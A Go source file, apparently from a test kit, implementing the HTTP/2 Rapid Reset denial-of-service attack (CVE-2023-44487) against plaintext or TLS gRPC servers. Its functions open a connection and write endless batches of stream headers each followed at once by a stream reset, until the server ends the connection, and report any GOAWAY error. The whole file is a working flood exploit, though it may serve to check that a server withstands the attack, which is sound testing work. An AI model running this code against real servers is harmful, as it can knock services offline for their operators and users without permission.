package testkit

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"net"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// ErrCutOff occurs when the server ends a connection with an error.
var ErrCutOff = errors.New("the server ended the connection")

// resetsAtOnce is how many streams are opened and reset in one write.
const resetsAtOnce = 100

// RapidReset opens streams on one connection to a plaintext HTTP/2 server and resets each
// immediately, as fast as the server accepts them (CVE-2023-44487). The streams are gRPC
// calls of path. It returns when the connection ends, with ErrCutOff if the server sent an
// error, or when ctx ends, with the error of ctx.
func RapidReset(ctx context.Context, addr, path string) error {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", addr)
	if err != nil {
		return err
	}
	return RapidResetOn(ctx, conn, path)
}

// RapidResetOn is RapidReset on an open connection, for instance with TLS. It closes the
// connection.
func RapidResetOn(ctx context.Context, conn net.Conn, path string) error {
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	farewell := make(chan error, 1)
	go func() {
		farewell <- readGoAway(conn)
		_ = conn.Close() // ends the writes
	}()
	err := writeResets(conn, path)
	_ = conn.Close() // a write has failed
	return errors.Join(ctx.Err(), <-farewell, err)
}

// writeResets writes until that fails.
func writeResets(conn net.Conn, path string) error {
	var batch bytes.Buffer
	framer := http2.NewFramer(&batch, nil)
	batch.WriteString(http2.ClientPreface)
	_ = framer.WriteSettings() // writes to a buffer do not fail
	if _, err := conn.Write(batch.Bytes()); err != nil {
		return err
	}
	batch.Reset()
	head := requestHead(conn, path)
	var ids []int // the offsets of stream ids in the batch
	for range resetsAtOnce {
		ids = append(ids, batch.Len()+5)
		_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head, EndHeaders: true})
		ids = append(ids, batch.Len()+5)
		_ = framer.WriteRSTStream(1, http2.ErrCodeCancel)
	}
	for id := uint32(1); ; {
		for i := 0; i < len(ids); i += 2 {
			binary.BigEndian.PutUint32(batch.Bytes()[ids[i]:], id)
			binary.BigEndian.PutUint32(batch.Bytes()[ids[i+1]:], id)
			id += 2
		}
		if _, err := conn.Write(batch.Bytes()); err != nil {
			return err
		}
	}
}

// readGoAway reads until the connection ends, and returns why.
func readGoAway(conn net.Conn) error {
	framer := http2.NewFramer(nil, conn)
	var farewell error
	for {
		f, err := framer.ReadFrame()
		if err != nil {
			return errors.Join(farewell, err)
		}
		if away, ok := f.(*http2.GoAwayFrame); ok {
			farewell = fmt.Errorf("%w: %s", ErrCutOff, away.ErrCode)
		}
	}
}

// requestHead returns the headers of a gRPC call, encoded without reference to earlier
// ones.
func requestHead(conn net.Conn, path string) []byte {
	var block bytes.Buffer
	scheme := "http"
	if _, secure := conn.(*tls.Conn); secure {
		scheme = "https"
	}
	encoder := hpack.NewEncoder(&block)
	for _, f := range [][2]string{
		{":method", "POST"},
		{":scheme", scheme},
		{":path", path},
		{":authority", "controller"},
		{"content-type", "application/grpc"},
		{"te", "trailers"},
	} {
		_ = encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}) // writes to a buffer do not fail
	}
	return block.Bytes()
}
